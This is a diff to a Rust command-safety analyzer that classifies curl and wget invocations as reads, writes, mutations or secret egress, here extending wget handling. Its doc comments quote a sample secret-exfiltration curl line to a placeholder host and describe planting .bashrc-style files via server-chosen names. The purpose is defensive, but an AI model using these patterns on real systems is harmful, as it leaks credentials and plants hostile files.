@@ -5,15 +5,16 @@
 //! secret-shaped variable expanded into the URL, a header, the body or the user
 //! (`curl "https://x/?k=$AWS_SECRET_ACCESS_KEY"`, `-H "Authorization: $TOKEN"`) is a hard
 //! floor: the secret leaves the machine. Options read from a file the floor does not parse
-//! (`curl -K`, `wget -e`/`--execute`) and files named by the server (`-OJ`, `wget -P DIR`)
-//! are soft: what they upload or plant cannot be seen. Credential files sent (`-d @FILE`,
+//! (`curl -K`, `wget -e`/`--execute`) and files named by the server (`curl -OJ`, `wget
+//! --content-disposition`, `--trust-server-names`) are soft: what they upload or plant
+//! cannot be seen. Credential files sent (`-d @FILE`,
 //! `-T FILE`) are reads the path floor judges (and with egress, the whole-command floor).
 //!
-//! `curl` and `wget` are read-only only as a GET (or HEAD) printing to stdout, with every
-//! option known: a body (`-d`, `-F`, `--json`), an upload (`-T`), a config file (`-K`),
-//! `.netrc` credentials, headers read from files (`-H @file`) or an unknown option is not
-//! routine. Files they write (`-o`, `--cookie-jar`, `-D`) are writes, judged like an edit
-//! (outside the workspace: asked). A `DELETE` is soft anywhere; `POST`/`PUT`/`PATCH` is
+//! `curl` and `wget` are routine only as a GET (or HEAD) with every option known: a body
+//! (`-d`, `-F`, `--json`), an upload (`-T`), a config file (`-K`), `.netrc` credentials,
+//! headers read from files (`-H @file`) or an unknown option is not routine. Files they
+//! write (`-o`, `-O`, `--cookie-jar`, `-D`; wget's file named from the URL, `-O`, `-P`)
+//! are writes, judged like an edit (outside the workspace: asked). A `DELETE` is soft anywhere; `POST`/`PUT`/`PATCH` is
 //! soft toward a known control plane (GitHub, Cloudflare, Railway, Vercel, Stripe, …), for
 //! a GraphQL mutation, or for a path that names a deletion (`_delete_by_query`).
 
@@ -601,7 +602,44 @@ pub(super) fn curl(cmd: &Cmd) -> Said {
     said
 }
 
-/// `wget`: a GET to stdout (`-O -`) or `--spider` only checks.
+/// The file `wget URL` saves in its directory, as GNU Wget 1.21.3 names it (checked
+/// against a local server): the URL's last path component, its query kept
+/// (`file.txt?x=1`), `index.html` when the path ends in `/` or is empty; percent escapes
+/// are decoded (so a name holding one is not known here). A redirect does not change the
+/// name without `--trust-server-names`. `None` when the name is not known.
+fn wget_file_name(url: &str) -> Option<String> {
+    let rest = url.split_once("://").map_or(url, |(_, r)| r);
+    let rest = rest.split('#').next().unwrap_or(rest);
+    let (rest, query) = match rest.split_once('?') {
+        Some((r, q)) => (r, Some(q)),
+        None => (rest, None),
+    };
+    let path = rest.split_once('/').map_or("", |(_, p)| p);
+    let last = path.rsplit('/').next().unwrap_or("");
+    let name = if last.is_empty() { "index.html" } else { last };
+    let odd = |s: &str| s.is_empty() || s.contains(['%', '/', '\\']) || s == "." || s == "..";
+    if odd(name) || query.is_some_and(|q| q.is_empty() || q.contains(['%', '/', '\\'])) {
+        return None;
+    }
+    Some(match query {
+        Some(q) => format!("{name}?{q}"),
+        None => name.to_string(),
+    })
+}
+
+/// `wget`, checked against GNU Wget 1.21.3 (`wget --help` and a local server): a GET (or
+/// HEAD) of each URL, saved to `-O FILE` (`-O -`: printed), or by default to a new file
+/// in its directory (`-P DIR`, else the working directory) named from the URL
+/// ([`wget_file_name`]): an existing file is kept and the download goes to `NAME.1`
+/// (`.2`, …) unless `-nc` (skip), `-c` (continue it) or `-N` (replace it when newer), so
+/// both `NAME` and `NAME.1` are its writes. `--spider` only checks. `-o`/`-a` write
+/// its log. Judged as `curl -o` is: what it sends decides first (a secret, a metadata
+/// endpoint), a method other than GET/HEAD or a body is a mutation, and each file written
+/// goes to the path floor. A name the server chooses (`--content-disposition`,
+/// `--trust-server-names` after a redirect) and wgetrc commands (`-e`) are soft; a URL
+/// list (`-i`), recursion (`-r`, `-m`), `-x` directories and every other option are
+/// outside the grammar. (Wget also records hosts' HSTS policies in `~/.wget-hsts`, its
+/// own cache, which is not modelled.)
 pub(super) fn wget(cmd: &Cmd) -> Said {
     let args = cmd.args();
     if asks_help(args) || args == ["-V"] {
@@ -622,6 +660,19 @@ pub(super) fn wget(cmd: &Cmd) -> Said {
         "--inet6-only",
         "-v",
         "--verbose",
+        "-nc",
+        "--no-clobber",
+        "-c",
+        "--continue",
+        "-N",
+        "--timestamping",
+        "-nd",
+        "--no-directories",
+        "--show-progress",
+        "--retry-connrefused",
+        "--no-hsts",
+        "--content-disposition",
+        "--trust-server-names",
     ];
     const VALUES: &[&str] = &[
         "-T",
@@ -643,12 +694,23 @@ pub(super) fn wget(cmd: &Cmd) -> Said {
         "--execute",
         "-P",
         "--directory-prefix",
+        "-o",
+        "--output-file",
+        "-a",
+        "--append-output",
+        "-w",
+        "--wait",
+        "--limit-rate",
+        "--progress",
     ];
     // Short options bundle as getopt reads them: `-qO FILE`, `-qOFILE` are `-q -O FILE`
-    // (`-nv` is wget's own two-letter form).
+    // (`-nv`, `-nc` and `-nd` are wget's own two-letter forms).
     let mut words: Vec<String> = Vec::with_capacity(args.len());
     for a in args {
-        let bundle = a.len() > 2 && a.starts_with('-') && !a.starts_with("--") && a != "-nv";
+        let bundle = a.len() > 2
+            && a.starts_with('-')
+            && !a.starts_with("--")
+            && !matches!(a.as_str(), "-nv" | "-nc" | "-nd");
         if !bundle {
             words.push(a.clone());
             continue;
@@ -664,7 +726,7 @@ pub(super) fn wget(cmd: &Cmd) -> Said {
                 break;
             }
             if !FLAGS.contains(&short.as_str()) {
-                return Said::unknown(format!("wget {short} is not a known read-only option"));
+                return Said::unknown(format!("wget {short} is not a known option"));
             }
         }
     }
@@ -672,6 +734,8 @@ pub(super) fn wget(cmd: &Cmd) -> Said {
     let mut urls = Vec::new();
     let mut soft_why: Option<(&'static str, String)> = None;
     let mut out: Option<String> = None;
+    let mut prefix: Option<String> = None;
+    let mut logs: Vec<String> = Vec::new();
     let mut method = "GET".to_string();
     let mut body = String::new();
     let mut it = args.iter();
@@ -685,10 +749,21 @@ pub(super) fn wget(cmd: &Cmd) -> Said {
             continue;
         }
         if FLAGS.contains(&name.as_str()) {
+            if matches!(
+                name.as_str(),
+                "--content-disposition" | "--trust-server-names"
+            ) {
+                soft_why = Some((
+                    "planting",
+                    format!(
+                        "wget {name} saves a file the server names (it could be .envrc, .bashrc or a build script)"
+                    ),
+                ));
+            }
             continue;
         }
         if !VALUES.contains(&name.as_str()) {
-            return Said::unknown(format!("wget {name} is not a known read-only option"));
+            return Said::unknown(format!("wget {name} is not a known option"));
         }
         let v = match inline {
             Some(v) => v,
@@ -699,6 +774,8 @@ pub(super) fn wget(cmd: &Cmd) -> Said {
         };
         match name.as_str() {
             "-O" | "--output-document" => out = Some(v),
+            "-P" | "--directory-prefix" => prefix = Some(v),
+            "-o" | "--output-file" | "-a" | "--append-output" => logs.push(v),
             "--method" => method = v.to_ascii_uppercase(),
             "--post-data" | "--post-file" | "--body-data" | "--body-file" => {
                 if method == "GET" {
@@ -718,12 +795,6 @@ pub(super) fn wget(cmd: &Cmd) -> Said {
                 ),
                 ))
             }
-            "-P" | "--directory-prefix" => {
-                soft_why = Some((
-                    "planting",
-                    format!("wget -P {v} saves a file the server names under {v}"),
-                ))
-            }
             _ => {}
         }
     }
@@ -739,7 +810,18 @@ pub(super) fn wget(cmd: &Cmd) -> Said {
     if urls.is_empty() {
         return Said::unknown("wget without a URL");
     }
+    if let Some(u) = urls.iter().find(|u| {
+        u.split_once("://").is_some_and(|(scheme, _)| {
+            !matches!(
+                scheme.to_ascii_lowercase().as_str(),
+                "http" | "https" | "ftp" | "ftps"
+            )
+        })
+    }) {
+        return Said::unknown(format!("wget {u}: only http, https and ftp are catalogued"));
+    }
     let with_urls = |mut s: Said| {
+        s = s.with_writes(logs.clone());
         for u in &urls {
             s = s.and(fetches(u));
         }
@@ -753,7 +835,39 @@ pub(super) fn wget(cmd: &Cmd) -> Said {
         None if has_flag(args, "--spider") => {
             with_urls(Said::read("wget --spider only checks a URL"))
         }
-        None => Said::unknown("wget saves a file the server names in the working directory"),
+        None => {
+            // A new file named from each URL, beside what is there.
+            let keeps = [
+                "-nc",
+                "--no-clobber",
+                "-c",
+                "--continue",
+                "-N",
+                "--timestamping",
+            ]
+            .iter()
+            .any(|f| has_flag(args, f));
+            let mut writes = Vec::new();
+            for u in &urls {
+                let Some(name) = wget_file_name(u) else {
+                    return Said::unknown(format!(
+                        "wget saves {u} under a name the floor cannot work out"
+                    ));
+                };
+                let path = match &prefix {
+                    Some(d) => crate::analysis::effects::programs::files::join(d, &name),
+                    None => name,
+                };
+                let kept = format!("{path}.1");
+                writes.push(path);
+                if !keeps {
+                    writes.push(kept);
+                }
+            }
+            with_urls(
+                Said::read("wget downloads a URL to a file named from it").with_writes(writes),
+            )
+        }
     }
 }
 
